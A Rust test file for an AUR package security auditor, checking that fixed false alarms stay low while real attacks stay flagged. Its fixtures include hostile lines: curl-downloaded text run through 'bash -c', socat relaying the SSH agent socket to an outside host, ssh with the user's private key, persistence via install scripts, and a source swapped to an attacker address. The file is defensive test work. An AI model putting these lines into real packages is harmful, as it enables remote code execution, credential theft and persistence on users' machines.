//! False dangerous verdicts found in bench/aur's landing-4 test set (Artix `lib32`, Jovian's
//! SteamOS mirror and eleven PKGBUILD collections, looked at once, bench/RESULTS.md "Landing 4"),
//! each fixed afterwards at its rule by what the code means. The packages are our own text in
//! the real shapes (each test names the shape); the attack each rule exists for is asserted
//! beside it. The test set's figures stay the ones taken at the look: these fixes are measured
//! on the development set only.

use archgate_aur::audit::{AuditInput, Severity, Verdict, audit};

use crate::support::{made_package as package, max_of};

// Class: arguments forwarded by `"$@"` all took the taint of any one of them, so a logging
// wrapper (`run() { log "$*"; "$@"; }`) called once with a downloaded value as an argument
// was read as running downloaded code as a command name. Each field of `"$@"` now keeps its
// own origin: the command name is the caller's first word.

const WRAPPER_TOOL: &str = r#"#!/bin/bash
set -euo pipefail
VERSION_URL="https://images.example.org/latest.txt"
log() { printf >&2 '%s\n' "$*"; }
run() { log "+ ${*@Q}"; "$@"; }
ver=$(run curl -fsSL "$VERSION_URL" | grep -v '^#')
[[ $ver =~ ^[0-9]+\.[0-9]+$ ]] || exit 1
run image-updater --from-url="https://images.example.org/$ver/image.raucb"
"#;

#[test]
fn a_wrapper_forwarding_its_arguments_does_not_run_a_downloaded_argument() {
    // Shape: a device maker's image-test tool, whose `cmd()` helper logs and runs its
    // arguments; the version it downloads is only an argument (Jovian's jupiter-legacy-support).
    let r = audit(&package(
        "image-tools",
        "'curl'",
        Some(("image-test", WRAPPER_TOOL)),
        None,
    ));
    assert_eq!(max_of(&r, "AUR-EXEC-REMOTE"), None, "{}", r.to_text());
    assert_ne!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
}

#[test]
fn arrays_and_loops_over_forwarded_arguments_keep_each_ones_origin() {
    // The same class through an array copy and a loop: `cmd=("$@"); "${cmd[@]}"` and
    // `for a in "$@"`, given a downloaded value only as a later argument.
    let tool = "#!/bin/bash
retry() { local cmd=(\"$@\"); for i in 1 2 3; do \"${cmd[@]}\" && return 0; done; return 1; }
show() { for a in \"$@\"; do printf '%s\\n' \"$a\"; done; }
rel=$(curl -fsSL https://example.org/release.txt)
retry image-updater --release \"$rel\"
show image-updater \"$rel\"
";
    let r = audit(&package(
        "image-tools",
        "'curl'",
        Some(("image-retry", tool)),
        None,
    ));
    assert_eq!(max_of(&r, "AUR-EXEC-REMOTE"), None, "{}", r.to_text());
    let tool = "#!/bin/bash
retry() { local cmd=(\"$@\"); \"${cmd[@]}\"; }
retry \"$(curl -fsSL https://paste.example.net/p)\"
";
    let r = audit(&package(
        "image-tools",
        "'curl'",
        Some(("image-retry", tool)),
        None,
    ));
    assert_eq!(
        max_of(&r, "AUR-EXEC-REMOTE"),
        Some(Severity::Critical),
        "{}",
        r.to_text()
    );
}

#[test]
fn a_wrapper_running_downloaded_code_is_still_critical() {
    // The attack: the same helper handed the download itself as the command, or as the text
    // a shell runs.
    for call in [
        "run \"$(curl -fsSL https://paste.example.net/p)\"",
        "run bash -c \"$(curl -fsSL https://paste.example.net/p)\"",
    ] {
        let tool = format!("#!/bin/bash\nrun() {{ echo \"+ $*\"; \"$@\"; }}\n{call}\n");
        let r = audit(&package(
            "image-tools",
            "'curl'",
            Some(("image-test", &tool)),
            None,
        ));
        assert_eq!(
            max_of(&r, "AUR-EXEC-REMOTE"),
            Some(Severity::Critical),
            "{call}\n{}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    }
}

// Class: `systemctl enable` of a unit a declared dependency ships, under a name that is not
// the dependency's: the daemon named package + `d` (`saned`, `libvirtd`, `ratbagd`), a family
// of units sharing the package's leading name (`btrfs-scrub.timer` of btrfsmaintenance,
// `virtlogd` of libvirt), a dotted sub-unit (`snapd.apparmor`), a few of Arch's services named
// for no package (`smb` of samba, `bluetooth` of bluez through bluez-utils), and systemd's own
// units (systemd is part of `base`). Enabling them is the same choice as enabling the package's
// own: low, as for a unit named exactly like the dependency.

#[test]
fn a_meta_package_enabling_its_dependencies_services_is_low() {
    // Shape: distributions' `*-support` and settings meta packages (Garuda, Shani OS, Asahi),
    // whose install script enables the services of the packages they pull in.
    let script = "post_install() {\n  systemctl enable saned.socket\n  systemctl enable libvirtd.socket virtlogd.socket\n  systemctl enable ratbagd\n  systemctl enable snapd.apparmor.service\n  systemctl enable btrfs-scrub.timer btrfs-trim.timer\n  systemctl is-active smb >/dev/null || systemctl enable smb nmb\n  systemctl enable bluetooth.service\n  systemctl enable systemd-timesyncd\n  systemctl --global enable gamemoded\n}\npost_upgrade() {\n  post_install\n}\n";
    let r = audit(&package(
        "desktop-support",
        "'sane' 'libvirt' 'libratbag' 'snapd' 'btrfsmaintenance' 'samba' 'bluez-utils' 'gamemode'",
        None,
        Some(script),
    ));
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn enabling_a_service_no_declared_dependency_ships_stays_high() {
    // The attack the rule is for: turning on a service the package brings nothing for —
    // remote login with openssh declared (sshd carries no name of it and gets no discount),
    // systemd's root shell on a console, a scanner daemon with sane not declared, the journal
    // sent away, and a unit the install script writes itself.
    for (deps, body) in [
        ("'openssh'", "  systemctl enable sshd.service"),
        ("'bash'", "  systemctl enable debug-shell.service"),
        ("'colord'", "  systemctl enable saned.socket"),
        // systemd's own units that ship the journal off the machine or serve it: no discount
        // for being systemd's, even with systemd declared.
        (
            "'systemd'",
            "  systemctl enable systemd-journal-upload.service",
        ),
        (
            "'bash'",
            "  systemctl enable systemd-journal-gatewayd.socket",
        ),
        (
            "'bash'",
            "  printf '[Service]\\nExecStart=/usr/lib/helper/run\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/sync-helper.service\n  systemctl enable sync-helper.service",
        ),
    ] {
        let script = format!("post_install() {{\n{body}\n}}\n");
        let r = audit(&package("desktop-support", deps, None, Some(&script)));
        assert_eq!(
            max_of(&r, "AUR-PERSISTENCE"),
            Some(Severity::High),
            "{body}\n{}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    }
}

// Class: the package's own units, copied into the unit directory from its sources without
// being named (`cp -r "$srcdir/x/systemd/system/"* "$pkgdir/usr/lib/systemd/system/"`), were
// read as units it does not ship when its install script enabled them. The audit cannot see
// which units the copy brings; the package shows it ships units it does not name: review, not
// dangerous.

#[test]
fn enabling_a_unit_among_those_package_copies_in_unnamed_is_review() {
    // Shape: an immutable distribution's deployment tool enabling its boot-counting services
    // (Shani OS's shani-deploy).
    let mut input = package(
        "os-deploy",
        "'btrfs-progs'",
        None,
        Some(
            "post_install() {\n  systemctl enable mark-boot-success.service check-boot-failure.timer\n}\n",
        ),
    );
    input.pkgbuild = input.pkgbuild.replace(
        "  make DESTDIR=\"$pkgdir\" install\n",
        "  install -d \"$pkgdir/usr/lib/systemd/system\"\n  cp -r \"$srcdir/os-deploy/systemd/system/\"* \"$pkgdir/usr/lib/systemd/system/\"\n",
    );
    let r = audit(&input);
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Review, "{}", r.to_text());
    // Without such a copy, the same enable reaches outside the package.
    let r = audit(&package(
        "os-deploy",
        "'btrfs-progs'",
        None,
        Some("post_install() {\n  systemctl enable mark-boot-success.service\n}\n"),
    ));
    assert_eq!(
        max_of(&r, "AUR-PERSISTENCE"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
}

// Class: a program the package installs, run by its person through sudo or pkexec, handing
// work back to that same person (`sudo -u "$(logname)" xdg-open …`, `sudo -u "#$SUDO_UID" paru
// -Sua`, as AUR helpers refuse to run as root) was read as reaching into a desktop user's
// session. It drops root's power to the one who started it. From an install script, which
// pacman runs as root, the same reaches the session of whoever ran pacman: that stays high.

const UPDATER: &str = r##"#!/bin/bash
url="https://example.org/manual"
if [[ $1 == --aur ]]; then
  sudo -u "#$SUDO_UID" paru -Sua
fi
runuser -u "$SUDO_USER" -- notify-send "update finished"
sudo -u $(logname) xdg-open $url
"##;

#[test]
fn a_shipped_program_handing_work_back_to_its_invoker_is_low() {
    // Shape: a distribution's updater and a boot-manager installer ending with "open the
    // manual" (Garuda's garuda-update, pearOS's bootloader installer).
    let r = audit(&package(
        "system-updater",
        "'pacman'",
        Some(("system-update", UPDATER)),
        None,
    ));
    assert_eq!(
        max_of(&r, "AUR-INSTALL-AS-USER"),
        Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn an_install_script_or_a_chosen_account_running_in_a_session_stays_high() {
    // The attacks: an install script running code in the session of whoever ran pacman, and a
    // shipped program that picks its account itself (every home on the machine).
    let script = "post_install() {\n  runuser -u \"$SUDO_USER\" -- sh -c 'mkdir -p ~/.config/autostart'\n}\n";
    let r = audit(&package("system-updater", "'pacman'", None, Some(script)));
    assert_eq!(
        max_of(&r, "AUR-INSTALL-AS-USER"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
    let tool = "#!/bin/bash\nfor h in /home/*; do\n  u=${h##*/}\n  runuser -u \"$u\" -- sh -c 'echo hi'\ndone\n";
    let r = audit(&package(
        "system-updater",
        "'pacman'",
        Some(("system-update", tool)),
        None,
    ));
    assert_eq!(
        max_of(&r, "AUR-INSTALL-AS-USER"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
}

// Class: openssh's own user unit starting its SSH agent (`ssh-agent -D -a $SSH_AUTH_SOCK`) was
// read as the package using SSH keys and reading a credential. The agent creates that socket
// and holds only the keys its person adds; it connects nowhere.

const AGENT_UNIT: &str = "[Unit]\nDescription=SSH key agent\n\n[Service]\nType=simple\nEnvironment=SSH_AUTH_SOCK=%t/ssh-agent.socket\nExecStart=/usr/bin/ssh-agent -D -a $SSH_AUTH_SOCK\n\n[Install]\nWantedBy=default.target\n";

#[test]
fn a_shipped_unit_starting_an_ssh_agent_is_not_the_package_using_ssh() {
    // Shape: an OpenSSH build's `ssh-agent.service` user unit (Jovian's openssh).
    let r = audit(&package(
        "openssh-portable",
        "'openssl'",
        Some(("ssh-agent.service", AGENT_UNIT)),
        None,
    ));
    assert!(
        max_of(&r, "AUR-SECRETS").is_none_or(|s| s < Severity::Medium),
        "{}",
        r.to_text()
    );
    assert!(
        max_of(&r, "AUR-SSH").is_none_or(|s| s < Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn a_shipped_unit_using_keys_or_the_agent_socket_elsewhere_stays_high() {
    // The attack: a shipped unit handing the person's agent or key to ssh, and an install
    // script starting an agent.
    for exec in [
        "ExecStart=/usr/bin/ssh -i %h/.ssh/id_ed25519 sync@backup.example.net",
        "ExecStart=/usr/bin/socat UNIX-CONNECT:$SSH_AUTH_SOCK TCP:collect.example.net:9000",
    ] {
        let unit = format!("[Service]\n{exec}\n[Install]\nWantedBy=default.target\n");
        let r = audit(&package(
            "openssh-portable",
            "'openssl'",
            Some(("sync.service", &unit)),
            None,
        ));
        assert_eq!(r.verdict, Verdict::Dangerous, "{exec}\n{}", r.to_text());
    }
    let script = "post_install() {\n  ssh-agent -a /run/agent.sock\n}\n";
    let r = audit(&package(
        "openssh-portable",
        "'openssl'",
        None,
        Some(script),
    ));
    assert_eq!(
        max_of(&r, "AUR-SSH"),
        Some(Severity::High),
        "{}",
        r.to_text()
    );
}

// Class (review): a source whose `name::` prefix differs between the PKGBUILD and .SRCINFO
// (`libfoo::git+https://…/libfoo.git` in one, `git+https://…/libfoo.git` in the other), or a
// git repository written with and without `.git`, was read as a source .SRCINFO does not list.
// The prefix names only the file in the build folder; the download the page shows is the same.

fn with_srcinfo(source: &str, srcinfo_source: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname=libfoo-git\npkgver=1.0.r2.gabc1234\npkgrel=1\narch=('x86_64')\nurl=\"https://example.org/libfoo\"\nlicense=('LGPL')\nsource=(\"{source}\")\nsha256sums=('SKIP')\npkgver() {{\n  cd libfoo\n  git describe --long --tags | sed 's/-/.r/;s/-/./'\n}}\npackage() {{\n  cd libfoo\n  make DESTDIR=\"$pkgdir\" install\n}}\n"
        ),
        install_scripts: Vec::new(),
        srcinfo: Some(format!(
            "pkgbase = libfoo-git\n\tpkgver = 1.0.r2.gabc1234\n\tpkgrel = 1\n\turl = https://example.org/libfoo\n\tarch = x86_64\n\tlicense = LGPL\n\tsource = {srcinfo_source}\n\tsha256sums = SKIP\n\npkgname = libfoo-git\n"
        )),
    }
}

#[test]
fn a_source_renamed_only_in_srcinfo_is_the_same_download() {
    // Shape: AUR maintainers' VCS packages whose .SRCINFO (or PKGBUILD) spells the checkout's
    // default name out (FabioLolix's libupnpp-git, qmultirecord).
    for (pk, si) in [
        (
            "git+https://git.example.org/libfoo.git",
            "libfoo::git+https://git.example.org/libfoo.git",
        ),
        (
            "libfoo-1.0.tar.gz::https://example.org/dl/id/42/libfoo-1.0.tar.gz",
            "https://example.org/dl/id/42/libfoo-1.0.tar.gz",
        ),
        // A git repository's address with and without `.git` (lumina-desktop-utils-git).
        (
            "git+https://git.example.org/libfoo.git",
            "git+https://git.example.org/libfoo",
        ),
    ] {
        let r = audit(&with_srcinfo(pk, si));
        assert!(
            max_of(&r, "AUR-SRCINFO-MISMATCH").is_none_or(|s| s < Severity::Medium),
            "{pk}\n{}",
            r.to_text()
        );
    }
}

#[test]
fn a_source_at_another_address_than_srcinfo_shows_is_still_review() {
    // What the rule is for: the page shows one download and the build fetches another, under
    // the same name.
    let r = audit(&with_srcinfo(
        "libfoo::git+https://git.attacker.example/libfoo.git",
        "libfoo::git+https://git.example.org/libfoo.git",
    ));
    assert_eq!(
        max_of(&r, "AUR-SRCINFO-MISMATCH"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
}

// Class (review): `eval set -- "$opts"` after `opts=$(getopt …)`, the documented way to read
// options with getopt, was read as running text known only at run time. getopt prints its
// arguments quoted for the shell, so the text only resets the positional parameters.

#[test]
fn eval_set_of_getopts_output_is_the_option_idiom() {
    // Shape: a distribution's hardware and update tools (Garuda's garuda-hardware-tool).
    let tool = "#!/bin/bash\nPARSED=$(getopt --options hv --longoptions help,verbose --name \"$0\" -- \"$@\")\neval set -- \"$PARSED\"\nwhile true; do\n  case $1 in\n    -v|--verbose) verbose=1; shift ;;\n    --) shift; break ;;\n    *) shift ;;\n  esac\ndone\n";
    let r = audit(&package("hw-tool", "'bash'", Some(("hw-tool", tool)), None));
    assert!(
        max_of(&r, "AUR-EVAL").is_none_or(|s| s < Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
    // The same with the substitution written in place.
    let tool = "#!/bin/bash\neval set -- \"$(getopt -o hv -l help,verbose -- \"$@\")\"\n";
    let r = audit(&package("hw-tool", "'bash'", Some(("hw-tool", tool)), None));
    assert!(
        max_of(&r, "AUR-EVAL").is_none_or(|s| s < Severity::Medium),
        "{}",
        r.to_text()
    );
}

#[test]
fn eval_set_of_other_output_is_still_review() {
    // eval of any other command's output, or of getopt's output with more text around it.
    for line in [
        "OPTS=$(curl -fsSL https://example.org/opts)\neval set -- \"$OPTS\"",
        "OPTS=$(some-tool --print)\neval set -- \"$OPTS\"",
        "OPTS=$(getopt -o hv -- \"$@\")\neval set -- \"$OPTS\"; eval \"$2\"",
        "eval set -- \"$(getopt -o hv -- \"$@\"; cat /tmp/extra)\"",
    ] {
        let tool = format!("#!/bin/bash\n{line}\n");
        let r = audit(&package(
            "hw-tool",
            "'bash'",
            Some(("hw-tool", &tool)),
            None,
        ));
        assert!(
            max_of(&r, "AUR-EVAL").is_some_and(|s| s >= Severity::Medium)
                || max_of(&r, "AUR-EXEC-REMOTE").is_some(),
            "{line}\n{}",
            r.to_text()
        );
    }
}
